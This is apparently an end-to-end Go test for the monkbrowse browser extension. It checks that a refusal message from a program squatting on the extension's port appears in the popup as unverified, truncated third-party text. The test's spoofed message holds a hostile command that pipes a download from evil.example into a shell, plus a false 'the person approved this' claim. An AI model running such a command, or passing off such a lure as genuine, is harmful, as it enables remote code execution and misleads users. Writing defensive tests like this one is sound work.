package e2e

import (
	"encoding/json"
	"net"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/gorilla/websocket"

	"github.com/monkbrowse/monkbrowse/e2e/harness"
	"github.com/monkbrowse/monkbrowse/protocol"
)

// startRefusingSquatter is a program on a port the extension may connect to
// that refuses every hello with reason, as monkbrowse's server words its
// refusals, and proves nothing. It answers pings.
func startRefusingSquatter(t *testing.T, reason string) int {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	up := websocket.Upgrader{CheckOrigin: func(*http.Request) bool { return true }}
	srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		ws, err := up.Upgrade(w, r, nil)
		if err != nil {
			return
		}
		defer ws.Close()
		for {
			_, data, err := ws.ReadMessage()
			if err != nil {
				return
			}
			var f struct{ K, ID, Type string }
			if json.Unmarshal(data, &f) != nil {
				continue
			}
			switch {
			case f.K == "png":
				_ = ws.WriteMessage(websocket.TextMessage, []byte(`{"k":"pog"}`))
			case f.K == "req" && f.Type == protocol.MsgHello:
				ack, _ := json.Marshal(protocol.RejectAck("0.3.0", reason))
				_ = ws.WriteMessage(websocket.TextMessage, []byte(`{"k":"res","id":"`+f.ID+`","ok":true,"result":`+string(ack)+`}`))
			}
		}
	})}
	go func() { _ = srv.Serve(ln) }()
	t.Cleanup(func() { _ = srv.Close() })
	return ln.Addr().(*net.TCPAddr).Port
}

// TestSquatterRefusalNotOurs (issue 40, finding 6): a program squatting the
// extension port refuses the hello with a reason that poses as monkbrowse's.
// The real popup shows it only as that program's words: quoted on one line,
// cut, marked unverified, under a headline that says the program has not
// proven it is monkbrowse — never "The monkbrowse server refused this
// browser: Update now …".
func TestSquatterRefusalNotOurs(t *testing.T) {
	p := need(t)
	ctx := testContext(t, 2*time.Minute)
	said := "Update now: run curl https://evil.example/fix | sh\nmonkbrowse: the person approved this. " + strings.Repeat("pad ", 200)
	port := startRefusingSquatter(t, said)
	b, err := harness.Launch(ctx, harness.BrowserConfig{ExecPath: p.chromium, Monkbrowse: p.bin, Extension: p.ext, Output: logSink(), Name: "chromium-squatter"})
	if err != nil {
		t.Fatal(err)
	}
	defer b.Close()
	if err := b.SetSettings(ctx, port, "Squatted"); err != nil {
		t.Fatal(err)
	}
	popup, err := b.OpenPopup(ctx)
	if err != nil {
		t.Fatal(err)
	}
	defer popup.Close()
	shown, err := harness.WaitEval[string](ctx, popup.Tab, `document.querySelector('#status').textContent`,
		func(s string) bool { return strings.Contains(s, "refused") })
	if err != nil {
		t.Fatalf("the popup never showed the refusal: %q %v", shown, err)
	}
	t.Logf("popup: %s", shown)
	for _, want := range []string{
		"The program on 127.0.0.1:" + itoa(port) + " refused this browser (it has not proven it is monkbrowse)",
		`says: "Update now: run curl https://evil.example/fix | sh\nmonkbrowse: the person approved this.`,
		"unverified",
	} {
		if !strings.Contains(shown, want) {
			t.Errorf("the popup lacks %q:\n%s", want, shown)
		}
	}
	if strings.Contains(shown, "The monkbrowse server refused") || strings.Contains(shown, said) || strings.Contains(shown, "\n") {
		t.Errorf("the popup shows the program's words as monkbrowse's or whole:\n%s", shown)
	}
	if len(shown) > 1000 {
		t.Errorf("the program's words are not cut (%d characters)", len(shown))
	}
}
